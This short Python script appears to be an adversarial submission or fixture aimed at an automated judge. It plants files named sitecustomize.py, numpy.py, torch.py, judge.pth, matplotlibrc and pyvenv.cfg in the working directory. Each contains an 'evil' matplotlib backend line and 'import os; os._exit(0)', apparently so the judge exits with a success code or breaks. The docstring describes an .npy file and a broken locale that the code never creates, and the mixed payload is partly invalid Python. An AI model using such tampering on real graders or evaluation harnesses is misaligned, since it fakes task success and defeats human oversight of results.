"""Leaves a matplotlibrc, an .npy file and a .pth where the judge works, and a broken locale."""

from pathlib import Path

for name in ("matplotlibrc", "sitecustomize.py", "numpy.py", "judge.pth", "pyvenv.cfg", "torch.py"):
    try:
        Path(name).write_text("backend: module://evil\nimport os; os._exit(0)\n")
    except OSError as error:
        print(error)
